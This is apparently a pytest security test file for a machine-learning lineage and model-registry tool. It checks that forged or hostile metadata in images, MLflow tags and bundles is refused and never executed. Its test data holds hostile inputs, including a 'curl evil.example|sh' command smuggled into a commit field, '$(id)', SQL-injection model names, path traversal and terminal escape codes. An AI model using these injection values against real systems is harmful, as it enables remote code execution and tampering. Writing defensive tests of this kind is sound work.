"""What a file or a registry says of its origin: shown only in its form, and never run."""

import hashlib
import io
import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image, PngImagePlugin
from rich.console import Console

from tests.mlflow_stores import empty_store
from tests.unit.registry.test_bundle import contents
from vivero.cli.lineage_tree import lineage_tree
from vivero.config.schema import Config
from vivero.data.made_images import MadeImages, read_batch
from vivero.errors import BundleError, DataError, TrackingError
from vivero.evaluation.grids import save_image
from vivero.files import write_json
from vivero.registry.bundle import load_bundle, write_bundle
from vivero.registry.lineage_target import Target
from vivero.registry.lineage_trace import Trace, trace
from vivero.registry.monitor_memory import read_memory
from vivero.registry.moves import EVENT_TAG, history
from vivero.registry.versions import bring_here, find_version, list_versions, report_name
from vivero.tracking.git import run_git
from vivero.tracking.store import experiment_id, open_client

WEIGHTS = "1" * 64
LINEAGE = {
    "data_digest": f"{'a1' * 16}.dir", "code_commit": "c" * 40, "is_dirty": False,
    "dvc_lock_sha256": "2" * 64, "params_sha256": "3" * 64, "requirements_sha256": "4" * 64,
    "seed": 5, "weights_sha256": WEIGHTS, "initial_model": "models:/vivero/1",
    "initial_weights_sha256": "5" * 64, "not_bit_exact": ["from 3 images on: other threads"],
}  # fmt: skip
SHARED = {
    "weights_sha256": WEIGHTS, "lineage": LINEAGE, "seed": 7, "sampler": "ddim", "num_steps": 18,
    "guidance": 1.5, "guidance_interval": [0.1, 0.9], "adaptive_threshold": 0.5,
}  # fmt: skip
ENTRY = {"index": 0, "label": 3, "class_name": "shirt", "image_seed": 2**62}
OTHER: dict[str, Any] = {
    "data_digest": f"{'b2' * 16}.dir", "code_commit": "d" * 40, "is_dirty": True,
    "dvc_lock_sha256": "6" * 64, "params_sha256": "7" * 64, "requirements_sha256": "8" * 64,
    "seed": 9, "weights_sha256": "9" * 64, "initial_model": "models:/vivero/2",
    "initial_weights_sha256": "a" * 64, "not_bit_exact": ["never"], "sampler": "ddpm",
    "num_steps": 250, "guidance": 2.5, "guidance_interval": [0.0, 1.0], "adaptive_threshold": None,
    "index": 1, "label": 4, "class_name": "shoe", "image_seed": 1,
}  # fmt: skip
FIELDS = [
    *(f"lineage.{name}" for name in LINEAGE),
    *(name for name in SHARED if name != "lineage"),
    *ENTRY,
]
HOSTILE = [
    "--output={canary}", "-h", "a\x1b[31mb", "a\nb", "\u202etxt.exe", "x" * 100_000, [["a"] * 9],
    {"a": {"b": 1}}, 2**70, -1, float("nan"),
]  # fmt: skip


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository with one recorded image and an empty embedded MLflow."""
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    (tmp_path / "mlflow.db").write_bytes(empty_store())
    run_git(tmp_path, "init", "--quiet")
    who = ("-c", "user.name=Ada", "-c", "user.email=ada@example.org")
    run_git(tmp_path, *who, "commit", "--quiet", "--allow-empty", "--message", "first")
    folder = tmp_path / "samples"
    folder.mkdir()
    save_image(folder / "00000-3.png", pixels(), {**SHARED, **ENTRY})
    write_json(folder / "samples.json", {**SHARED, "images": [{**ENTRY, "file": "00000-3.png"}]})
    MadeImages(tmp_path).add(*read_batch(folder))
    return tmp_path


def pixels(seed: int = 1) -> np.ndarray:
    return np.random.default_rng(seed).integers(0, 256, (1, 8, 8), np.uint8)


def record_with(field: str, value: Any) -> dict[str, Any]:
    """The true record, but for one field."""
    record = json.loads(json.dumps({**SHARED, **ENTRY}))
    place = record["lineage"] if field.startswith("lineage.") else record
    place[field.removeprefix("lineage.")] = value
    return record


def image_with(path: Path, record: Any, seed: int = 1) -> str:
    info = PngImagePlugin.PngInfo()
    info.add_text("vivero", json.dumps(record))
    Image.fromarray(pixels(seed)[0]).save(path, pnginfo=info)
    return str(path)


def printed(found: Trace) -> str:
    output = io.StringIO()
    Console(file=output, width=4000, force_terminal=True).print(lineage_tree(found))
    return output.getvalue()


def test_the_true_record_is_as_recorded(root: Path):
    found = trace(str(root / "samples" / "00000-3.png"), root)
    assert found.target.facts["pixels"] == "as recorded"
    assert not [note for note in found.notes if "differs" in note]


@pytest.mark.parametrize("field", FIELDS)
def test_each_forged_field_is_named_and_the_kept_value_is_shown(root: Path, field: str):
    name = field.removeprefix("lineage.")
    found = trace(image_with(root / "forged.png", record_with(field, OTHER[name])), root)
    assert found.target.facts["pixels"] == "not as recorded"
    (note,) = [note for note in found.notes if "differs" in note]
    assert f"The file differs in {field} (file: {str(OTHER[name])[:80]}, recorded:" in note
    assert "; " not in note.partition("differs in")[2], "no other field differs"
    assert found.target.value == WEIGHTS
    assert {**found.target.lineage} == LINEAGE
    for key, value in {**ENTRY, **SHARED}.items():
        if key not in ("lineage", "weights_sha256"):
            assert found.target.facts[key] == value


def test_all_forged_fields_are_named(root: Path):
    record = {**{k: OTHER[k] for k in (*SHARED, *ENTRY) if k != "lineage"}, "lineage": {}}
    record["lineage"] = {name: OTHER[name] for name in LINEAGE}
    found = trace(image_with(root / "forged.png", record), root)
    (note,) = [note for note in found.notes if "differs" in note]
    assert all(f"{field} (file: " in note for field in FIELDS)
    assert found.target.lineage == LINEAGE


def test_a_field_that_was_left_out_is_named_too(root: Path):
    record = record_with("seed", 7)
    del record["lineage"]["code_commit"]
    found = trace(image_with(root / "forged.png", record), root)
    assert any("lineage.code_commit (file: None, recorded: ccc" in note for note in found.notes)


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("seed", [1, 2], ids=["known pixels", "unknown pixels"])
def test_a_hostile_field_of_a_record_is_unreadable_and_runs_nothing(
    root: Path, tmp_path: Path, field: str, seed: int, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.chdir(tmp_path)
    before = files_in(tmp_path)
    for number, value in enumerate(HOSTILE):
        value = value.format(canary=tmp_path / "canary") if isinstance(value, str) else value
        if value == "-h" and field in FREE_TEXT:
            continue  # is text there like any other
        if isinstance(value, str) and value.startswith("--output") and field in FREE_TEXT:
            shown_as_text(root, field, value, seed)
            continue
        path = image_with(root / f"{number}.png", record_with(field, value), seed)
        if seed == 1:
            found = trace(path, root)
            assert any("unreadable record" in note for note in found.notes), value
            assert found.target.lineage == LINEAGE
            assert_harmless(printed(found))
        else:
            with pytest.raises(DataError, match="unreadable record") as caught:
                trace(path, root)
            assert_harmless(str(caught.value))
            assert len(str(caught.value)) < 2000
        Path(path).unlink()
    assert files_in(tmp_path) - {"text.png"} == before


FREE_TEXT = ("lineage.initial_model", "sampler", "class_name", "lineage.not_bit_exact")


def shown_as_text(root: Path, field: str, value: str, seed: int) -> None:
    found = trace(image_with(root / "text.png", record_with(field, value), seed), root)
    assert_harmless(printed(found))


def assert_harmless(text: str) -> None:
    for code in ("\x1b[31m", "\u202e"):
        assert code not in text


def files_in(folder: Path) -> set[str]:
    skipped = (".git", "mlflow.db", "work", "mlruns")
    return {
        path.relative_to(folder).as_posix()
        for path in folder.rglob("*")
        if not path.relative_to(folder).as_posix().startswith(skipped)
    }


@pytest.mark.parametrize("record", [[], [[1, 2]], 3, "text", None, {str(k): 1 for k in range(99)}])
def test_a_record_of_another_form_is_unreadable(root: Path, record: Any):
    found = trace(image_with(root / "known.png", record), root)
    assert any("unreadable record" in note for note in found.notes)
    with pytest.raises(DataError, match="unreadable record"):
        trace(image_with(root / "unknown.png", record, seed=2), root)


def test_a_record_as_deep_as_a_well_is_unreadable(root: Path):
    info = PngImagePlugin.PngInfo()
    info.add_text("vivero", "[" * 200_000)
    Image.fromarray(pixels(2)[0]).save(root / "deep.png", pnginfo=info)
    with pytest.raises(DataError, match="unreadable record"):
        trace(str(root / "deep.png"), root)


def test_markup_in_a_record_is_printed_as_text(root: Path):
    record = record_with("class_name", "[red]shirt[/red] [link=https://example.org]x[/link]")
    found = trace(image_with(root / "new.png", record, seed=2), root)
    assert "class_name: [red]shirt[/red] [link=https://example.org]x[/link]" in printed(found)


@pytest.mark.parametrize("name", [*LINEAGE])
@pytest.mark.parametrize("value", ["--output={canary}", "a\x1b[31mb", "x" * 4000])
def test_a_hostile_tag_in_mlflow_is_left_out_and_named(
    root: Path, name: str, value: str, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.chdir(root)
    value = value.format(canary=root / "canary")
    version_with(root, {**LINEAGE, name: value})
    before = files_in(root)
    found = trace("models:/vivero/1", root)
    text = printed(found)
    assert_harmless(text)
    if f"lineage.{name}" not in FREE_TEXT or "\x1b" in value:
        notes = [note for note in found.notes if "unreadable record" in note]
        assert any(note.startswith("models:/vivero/1: ") and name in note for note in notes)
        assert any(note.startswith("run ") for note in notes)
        assert value not in text
        assert all(len(note) < 1000 for note in notes)
        others = {key for key in LINEAGE if key != name}
        assert others <= found.target.lineage.keys()
        assert name not in found.target.lineage
    assert files_in(root) == before


def version_with(root: Path, lineage: dict[str, Any], **tags: str) -> None:
    client = open_client(root)
    client.create_registered_model("vivero")
    named = {f"lineage.{key}": str(value) for key, value in lineage.items()}
    run = client.create_run(experiment_id(client, root, "vivero"), tags=named)
    tags |= {f"vivero.lineage.{key}": str(value) for key, value in lineage.items()}
    weights = str(lineage.get("weights_sha256", WEIGHTS))
    tags = {"vivero.weights_sha256": weights, **tags}
    client.create_model_version("vivero", "s3://nowhere/x", run.info.run_id, tags=tags)


@pytest.mark.parametrize(
    "value", ["/../../../../x", "../x", "a" * 63, "A" * 64, "a" * 65, f"{'a' * 64}/../x", "", "."]
)
def test_a_hash_in_the_registry_that_is_none_never_becomes_a_path(root: Path, value: str):
    below = root / "one" / "two"
    below.mkdir(parents=True)
    (below / "mlflow.db").write_bytes(empty_store())
    version_with(below, LINEAGE, **{"vivero.signature_sha256": value})
    modes = {path: path.stat().st_mode for path in (root, root / "one", below)}
    with pytest.raises(BundleError, match=r"unreadable record|not signed"):
        bring_here(below, find_version(below, "models:/vivero/1"))
    assert {path: path.stat().st_mode for path in modes} == modes
    assert not (below / "work" / "models").exists()


@pytest.mark.parametrize(
    "uri",
    ["models:/a'b/1", "models:/a' OR name LIKE '%/1", 'models:/a"b/1', "models:/../x/1",
     "models:/vivero/01", "models:/vivero/٣", "models:/vivero/1/../2", "models:/vivero@a b",
     "models:/vivero@a'b", "models:/a`b/1", "models:/a\\b/1", "models:/vivero/1\n",
     f"models:/{'a' * 300}/1", "models:/vivero@", "models:/\x1b[31m/1"],
)  # fmt: skip
def test_an_address_of_a_model_has_its_form(root: Path, uri: str):
    with pytest.raises(TrackingError, match="is no model; write models:/NAME@champion") as caught:
        find_version(root, uri)
    assert_harmless(str(caught.value))
    assert str(caught.value).isprintable()


@pytest.mark.parametrize("name", ["a'b", "x' OR name LIKE '%", "", "a/b", "a\x1b[0m", "a\\"])
def test_a_name_of_a_model_has_its_form(root: Path, name: str):
    for call in (list_versions, history, read_memory):
        with pytest.raises(TrackingError, match="is no name of a model"):
            call(root, name)


@pytest.mark.parametrize("value", ["", "/../../x", "abc", "a" * 63, "A" * 64])
def test_the_hash_of_a_protocol_that_is_none_never_becomes_a_path(value: str):
    with pytest.raises(BundleError, match="unreadable record"):
        report_name(value)


@pytest.mark.parametrize(
    "text", ["{", "[]", "{}", '{"action": "promote", "champion": "../x", "former": null}']
)
def test_a_move_that_is_not_of_its_form_is_named(root: Path, text: str):
    version_with(root, LINEAGE)
    open_client(root).set_registered_model_tag("vivero", f"{EVENT_TAG}000001", text)
    with pytest.raises(TrackingError, match=r"unreadable record: the tag vivero\.event\.000001"):
        history(root, "vivero")


@pytest.fixture(scope="module")
def bundle_dir(tmp_path_factory: pytest.TempPathFactory, tiny_config: Config) -> Path:
    bundle_dir = tmp_path_factory.mktemp("from a stranger") / "bundle"
    write_bundle(bundle_dir, contents(tiny_config))
    return bundle_dir


def forge_lineage(bundle_dir: Path, text: str) -> None:
    """Put a lineage into a bundle as its author can: the manifest fits."""
    (bundle_dir / "lineage.json").write_text(text, encoding="utf-8")
    manifest = json.loads((bundle_dir / "manifest.json").read_text())
    manifest["files"]["lineage.json"] = hashlib.sha256(text.encode()).hexdigest()
    (bundle_dir / "manifest.json").write_text(json.dumps(manifest))


COMMANDS = ["HEAD; curl evil.example|sh #", "HEAD", "c" * 39, "C" * 40, f"{'c' * 40}\n", "$(id)"]


@pytest.mark.parametrize("commit", COMMANDS)
def test_a_bundle_whose_commit_is_no_hash_is_refused_by_name(bundle_dir: Path, commit: str):
    forge_lineage(bundle_dir, json.dumps({**LINEAGE, "code_commit": commit}))
    with pytest.raises(BundleError, match=r"lineage\.json: unreadable record: code_commit: "):
        trace(str(bundle_dir), None)


@pytest.mark.parametrize("name", [*LINEAGE])
def test_a_hostile_field_of_a_bundle_is_unreadable(bundle_dir: Path, name: str):
    for value in HOSTILE:
        if f"lineage.{name}" in FREE_TEXT and isinstance(value, str) and value.startswith("-"):
            continue  # is text there like any other
        forge_lineage(bundle_dir, json.dumps({**LINEAGE, name: value}))
        with pytest.raises(BundleError, match=rf"unreadable record: .*{name}") as caught:
            load_bundle(bundle_dir)
        assert_harmless(str(caught.value))
        assert len(str(caught.value)) < 2000


@pytest.mark.parametrize(
    ("text", "reason"),
    [("[]", "unreadable record"), ("3", "unreadable record"), ("{", "Expecting"),
     ("[" * 200_000, "nested too deeply"),
     (json.dumps({"seed": 0, "x": "y" * 1_000_000}), "expected at most 1000000 bytes")],
    ids=["list", "number", "cut off", "deep", "large"],
)  # fmt: skip
def test_the_lineage_of_a_bundle_in_another_form_is_refused(
    bundle_dir: Path, text: str, reason: str
):
    forge_lineage(bundle_dir, text)
    with pytest.raises(BundleError, match=rf"lineage\.json: .*{reason}"):
        load_bundle(bundle_dir)


def test_a_bundle_shows_the_weights_that_it_holds(bundle_dir: Path):
    forge_lineage(bundle_dir, json.dumps(LINEAGE))
    found = trace(str(bundle_dir), None)
    assert found.target.lineage["weights_sha256"] == load_bundle(bundle_dir).weights_sha256
    assert f"to go back: git checkout {LINEAGE['code_commit']} && dvc repro" in printed(found)


@pytest.mark.parametrize("commit", COMMANDS)
def test_the_tree_offers_no_command_for_what_is_no_hash(commit: str):
    lineage = {**LINEAGE, "code_commit": commit}
    target = Target("bundle", "x", "weights_sha256", WEIGHTS, lineage)
    text = printed(Trace(target, [], [], [], [], [], {}, []))
    assert "git checkout" not in text
    assert "no complete hash of a commit" in text
